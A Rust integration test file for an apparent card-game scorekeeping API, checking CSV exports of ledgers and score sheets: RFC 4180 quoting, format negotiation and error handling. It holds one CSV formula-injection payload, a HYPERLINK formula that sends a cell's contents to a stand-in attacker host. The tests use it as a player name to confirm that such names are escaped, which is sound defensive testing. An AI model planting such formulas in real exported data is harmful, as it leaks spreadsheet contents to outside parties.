//! CSV exports: a table's ledger and score sheet and a session's ledger, by `Accept: text/csv`
//! and by `?format=csv`; RFC 4180 with a header row; a bad format changes nothing and says why.

use reqwest::header::ACCEPT;
use serde_json::{json, Value};
use sqlx::PgPool;

use crate::helpers::{accept, spawn_app, TestApp};

async fn csv(app: &TestApp, path: &str, accept_csv: bool) -> (String, String) {
    let mut request = app.as_reader(app.client.get(format!("{}{path}", app.base)));
    if accept_csv {
        request = request.header(ACCEPT, "text/csv");
    }
    let response = request.send().await.expect("request");
    assert_eq!(response.status(), 200, "{path}");
    let content_type = response.headers()[reqwest::header::CONTENT_TYPE]
        .to_str()
        .expect("content type")
        .to_owned();
    (content_type, response.text().await.expect("body"))
}

/// Parses RFC 4180 text: CRLF line ends, quoted fields where needed.
fn parse(text: &str) -> Vec<Vec<String>> {
    assert!(text.ends_with("\r\n"), "CRLF line ends: {text:?}");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.expect("a record").iter().map(str::to_owned).collect())
        .collect()
}

async fn session_with_a_newmarket_table(app: &TestApp) -> (String, String, String) {
    let token = app.organiser("ann@club.example").await;
    let session = app.session(&token, "Friday, \"late\" table").await;
    let body = json!({"game": "newmarket", "players": ["Ann", "Bob, Jr.", "Cat", "Dan"], "options": {}, "session_id": session});
    let table = app.post("/api/v1/tables", &token, body).await.assert_status(201)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let layout = json!({"kind": "layout", "pool_cards": ["JD", "QH", "KC", "AS"], "stakes": ["AS", "KC", "QH", "JD"]});
    accept(app, &table, &token, layout).await;
    (token, session, table)
}

#[sqlx::test(migrations = "./migrations")]
async fn a_tables_ledger_downloads_as_csv_by_accept_and_by_link_with_a_row_per_posting(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (_, _, table) = session_with_a_newmarket_table(&app).await;
    let json = app.ledger(&table).await;

    let (content_type, by_accept) = csv(&app, &format!("/api/v1/tables/{table}/ledger"), true).await;
    let (_, by_link) = csv(&app, &format!("/api/v1/tables/{table}/ledger?format=csv"), false).await;

    assert!(content_type.starts_with("text/csv"), "{content_type}");
    assert_eq!(by_accept, by_link);
    let rows = parse(&by_link);
    assert_eq!(
        rows[0],
        [
            "booking",
            "move_seq",
            "deal",
            "memo",
            "reverses",
            "created_at",
            "account",
            "amount"
        ]
    );
    let postings: usize = json["bookings"]
        .as_array()
        .expect("bookings")
        .iter()
        .map(|b| b["postings"].as_array().expect("postings").len())
        .sum();
    assert_eq!(rows.len() - 1, postings);
    let sum: i64 = rows[1..].iter().map(|r| r[7].parse::<i64>().expect("chips")).sum();
    assert_eq!(sum, 0, "every booking sums to zero, so the whole file does");
    // JSON stays the default.
    assert_eq!(
        app.get(&format!("/api/v1/tables/{table}/ledger")).await.content_type,
        "application/json"
    );
}

#[sqlx::test(migrations = "./migrations")]
async fn a_score_sheet_downloads_as_csv_with_a_row_per_deal_and_a_column_per_player(pool: PgPool) {
    let app = spawn_app(pool).await;
    let token = app.organiser("ann@club.example").await;
    let table = app
        .table(&token, &["Ann", "Bob", "Cat", "Dan"], json!({"hand_sizes": [1, 4, 4]}))
        .await;
    let result = json!({"kind": "result", "nominations": [0, 1, 0, 1], "tricks": [0, 1, 0, 0]});
    accept(&app, &table, &token, result).await;
    let sheet = app.scores(&table).await;

    let (_, text) = csv(&app, &format!("/api/v1/tables/{table}/scores"), true).await;

    let rows = parse(&text);
    assert_eq!(rows.len(), 2, "a header and one deal: {text}");
    assert_eq!(rows[0][0], "deal");
    let column = |name: &str| {
        rows[0]
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name} in {:?}", rows[0]))
    };
    assert_eq!(rows[1][column("deal")], "1");
    for (seat, player) in ["Ann", "Bob", "Cat", "Dan"].iter().enumerate() {
        assert_eq!(
            Value::String(rows[1][column(&format!("points {player}"))].clone()),
            Value::String(sheet["sheet"]["deals"][0]["points"][seat].to_string())
        );
    }
}

#[sqlx::test(migrations = "./migrations")]
async fn a_sessions_ledger_downloads_as_csv_with_names_quoted_as_rfc_4180_says(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (_, session, table) = session_with_a_newmarket_table(&app).await;

    let (_, text) = csv(&app, &format!("/api/v1/sessions/{session}/ledger?format=csv"), false).await;

    assert!(text.contains("\"Bob, Jr.\""), "a comma in a name is quoted: {text}");
    let rows = parse(&text);
    // The first five columns as they always were; the roster member, opening and net after.
    assert_eq!(
        rows[0],
        [
            "table_id",
            "game",
            "account",
            "player",
            "balance",
            "member_id",
            "opening",
            "net"
        ]
    );
    assert!(rows[1..].iter().all(|r| r[0] == table));
    let bob = rows.iter().find(|r| r[2] == "seat:1").expect("seat 1");
    assert_eq!(bob[3], "Bob, Jr.");
    let json = app
        .get(&format!("/api/v1/sessions/{session}/ledger"))
        .await
        .assert_status(200)
        .clone();
    let bob_in_json = json["players"]
        .as_array()
        .expect("players")
        .iter()
        .find(|p| p["player"] == "Bob, Jr.")
        .expect("Bob");
    assert_eq!(Value::String(bob[5].clone()), bob_in_json["member_id"]);
    assert_eq!(bob[6], "100", "each seat opened with 100 chips");
    assert_eq!(
        bob[7].parse::<i64>().ok(),
        Some(bob[4].parse::<i64>().expect("chips") - 100)
    );
    let pool = rows.iter().find(|r| r[2].starts_with("pool:")).expect("a pool");
    assert_eq!((pool[3].as_str(), pool[5].as_str()), ("", ""), "a pool is no one's");
    for column in [4, 6, 7] {
        let sum: i64 = rows[1..].iter().map(|r| r[column].parse::<i64>().expect("chips")).sum();
        assert_eq!(sum, 0, "column {}", rows[0][column]);
    }
}

#[sqlx::test(migrations = "./migrations")]
async fn an_unknown_format_is_refused_and_an_unknown_table_is_not_found(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (_, session, table) = session_with_a_newmarket_table(&app).await;
    let before = app.snapshot(&table).await;

    app.get(&format!("/api/v1/tables/{table}/ledger?format=xls"))
        .await
        .assert_problem(400, "invalid_query");
    app.get(&format!("/api/v1/tables/{table}/scores?format=pdf"))
        .await
        .assert_problem(400, "invalid_query");
    app.get(&format!("/api/v1/sessions/{session}/ledger?format=1"))
        .await
        .assert_problem(400, "invalid_query");
    app.get(&format!("/api/v1/sessions/{}/ledger?format=csv", uuid::Uuid::new_v4()))
        .await
        .assert_problem(404, "session_not_found");
    app.get(&format!("/api/v1/tables/{}/scores?format=csv", uuid::Uuid::new_v4()))
        .await
        .assert_problem(404, "table_not_found");

    assert_eq!(app.snapshot(&table).await, before);
}

/// A name that a spreadsheet would run as a formula, and one it would read as a number.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ann\")";
const MINUS_ONE: &str = "-1";

#[sqlx::test(migrations = "./migrations")]
async fn a_tricky_dick_score_sheet_exports_a_row_per_hand_and_names_that_would_run_are_quoted(pool: PgPool) {
    use tablekeeper::rules::games::tricky_dick::{sim, Options, TrickyDick};
    use tablekeeper::rules::Game;

    // Arrange: a one-hand Tricky Dick table played to its end, two players' names spreadsheet
    // bait.
    let app = spawn_app(pool).await;
    let token = app.organiser("ann@club.example").await;
    let players = [FORMULA, MINUS_ONE, "Cat", "Dan"];
    let table = app
        .game_table(&token, "tricky-dick", &players, json!({"hands": 1}))
        .await;
    let options = Options {
        hands: 1,
        ..Options::default()
    };
    let mut engine = TrickyDick::new(4, options).expect("game");
    let hand = sim::random_hand(&mut engine, 7).expect("simulated hand");
    for mv in &hand.moves {
        accept(&app, &table, &token, serde_json::to_value(mv).expect("json")).await;
    }
    let sheet = app.scores(&table).await;

    // Act
    let (_, text) = csv(&app, &format!("/api/v1/tables/{table}/scores"), true).await;

    // Assert: the hand is a row, numbered first, its figures numbers (negative ones too).
    let rows = parse(&text);
    assert_eq!(rows.len(), 2, "a header and one hand: {text}");
    assert_eq!(rows[0][0], "hand");
    assert_eq!(rows[1][0], "1");
    let column = |name: &str| {
        rows[0]
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name} in {:?}", rows[0]))
    };
    for (seat, player) in players.iter().enumerate() {
        for field in ["points", "penalties", "totals"] {
            let cell = &rows[1][column(&format!("{field} {player}"))];
            assert_eq!(
                cell.parse::<i64>().ok(),
                sheet["sheet"]["hands"][0][field][seat].as_i64(),
                "{field} of {player}: a number, as the sheet has it"
            );
        }
    }
    assert!(
        !rows[1].iter().any(|cell| cell.starts_with('\'')),
        "no number is quoted: {:?}",
        rows[1]
    );
}

#[sqlx::test(migrations = "./migrations")]
async fn names_a_spreadsheet_would_run_are_quoted_in_the_ledgers_and_chip_columns_stay_numbers(pool: PgPool) {
    // Arrange: a session whose Newmarket table seats `=HYPERLINK(…)` and `-1`; the layout's
    // stakes leave every seat's net negative.
    let app = spawn_app(pool).await;
    let token = app.organiser("ann@club.example").await;
    let session = app.session(&token, "Friday").await;
    let body = json!({"game": "newmarket", "players": [FORMULA, MINUS_ONE, "Cat", "Dan"], "session_id": session});
    let table = app.post("/api/v1/tables", &token, body).await.assert_status(201)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let layout = json!({"kind": "layout", "pool_cards": ["JD", "QH", "KC", "AS"], "stakes": ["AS", "KC", "QH", "JD"]});
    accept(&app, &table, &token, layout).await;

    // Act
    let (_, session_csv) = csv(&app, &format!("/api/v1/sessions/{session}/ledger?format=csv"), false).await;
    let (_, table_csv) = csv(&app, &format!("/api/v1/tables/{table}/ledger?format=csv"), false).await;

    // Assert: the names behind a single quote, shown as typed after it; the chips numbers.
    let rows = parse(&session_csv);
    let seat = |n: u8| rows.iter().find(|r| r[2] == format!("seat:{n}")).expect("a seat");
    assert_eq!(seat(0)[3], format!("'{FORMULA}"));
    assert_eq!(seat(1)[3], format!("'{MINUS_ONE}"));
    assert_eq!(seat(2)[3], "Cat");
    let net = seat(1)[7].parse::<i64>().expect("a number");
    assert!(net < 0, "a negative net is a plain negative number: {:?}", seat(1));
    for row in &rows[1..] {
        for column in [4, 6, 7] {
            assert!(row[column].parse::<i64>().is_ok(), "{:?}", row);
        }
    }
    let rows = parse(&table_csv);
    let amount = rows[0].iter().position(|h| h == "amount").expect("amount");
    assert!(
        rows[1..]
            .iter()
            .any(|r| r[amount].starts_with('-') && r[amount].parse::<i64>().is_ok()),
        "postings out of an account are negative numbers: {table_csv}"
    );
    assert!(!table_csv.contains("'-"), "{table_csv}");
}

/// The CSV operations (`….csv`) answer the same CSV as the old negotiation by `Accept`, with a
/// file name, and the JSON operations' spec names only JSON (no `object | string` in clients).
#[sqlx::test(migrations = "./migrations")]
async fn the_csv_operations_answer_what_accept_text_csv_does_and_json_answers_stay_json_only(pool: PgPool) {
    let app = spawn_app(pool).await;
    let (_, session, table) = session_with_a_newmarket_table(&app).await;

    for (old, new) in [
        (
            format!("/api/v1/tables/{table}/ledger"),
            format!("/api/v1/tables/{table}/ledger.csv"),
        ),
        (
            format!("/api/v1/tables/{table}/scores"),
            format!("/api/v1/tables/{table}/scores.csv"),
        ),
        (
            format!("/api/v1/sessions/{session}/ledger"),
            format!("/api/v1/sessions/{session}/ledger.csv"),
        ),
    ] {
        let (_, by_accept) = csv(&app, &old, true).await;
        let answer = app.get(&new).await;
        answer.assert_status(200);
        assert!(
            answer.content_type.starts_with("text/csv"),
            "{new}: {}",
            answer.content_type
        );
        assert!(
            answer.headers["content-disposition"]
                .to_str()
                .expect("ascii")
                .starts_with("attachment; filename="),
            "{new}"
        );
        assert_eq!(answer.text, by_accept, "{new}");
    }
    app.get(&format!("/api/v1/tables/{}/scores.csv", uuid::Uuid::new_v4()))
        .await
        .assert_problem(404, "table_not_found");

    let spec: Value = serde_json::from_str(include_str!("../../openapi/openapi.json")).expect("spec");
    for (path, item) in spec["paths"].as_object().expect("paths") {
        let Some(ok) = item["get"]["responses"]["200"]["content"].as_object() else {
            continue;
        };
        if path.ends_with(".csv") {
            assert_eq!(ok.keys().collect::<Vec<_>>(), ["text/csv"], "{path}");
        } else {
            assert!(!ok.contains_key("text/csv"), "{path} answers JSON only in the spec");
        }
    }
}
